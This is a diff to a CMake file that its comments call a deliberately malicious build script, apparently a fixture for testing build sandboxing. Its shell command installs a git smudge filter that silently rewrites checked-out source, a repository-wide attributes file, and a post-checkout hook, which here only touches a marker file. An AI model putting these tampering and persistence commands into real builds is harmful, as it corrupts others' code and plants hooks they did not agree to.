@@ -1,9 +1,9 @@
 # What a malicious CMakeLists.txt tries, as the account that compiles: change what the next pin is made from, leave a
-# process behind, see the processes of others, reach the network. Included by a tag of the tiny project.
+# process behind, see the processes of others, reach the network. Included by a tag of the tiny project and of the imitation.
 execute_process(
     COMMAND
         sh -c
-        "git config filter.x.smudge 'sed s/tiny/evil/'
+        "git config filter.x.smudge 'sed "s/tiny/evil/;s/imitation/evil/"'
          common=$(git rev-parse --git-common-dir)
          mkdir -p $common/info; echo '* filter=x' > $common/info/attributes
          printf '#!/bin/sh\\ntouch /var/tmp/hook-ran\\n' > $common/hooks/post-checkout; chmod +x $common/hooks/post-checkout
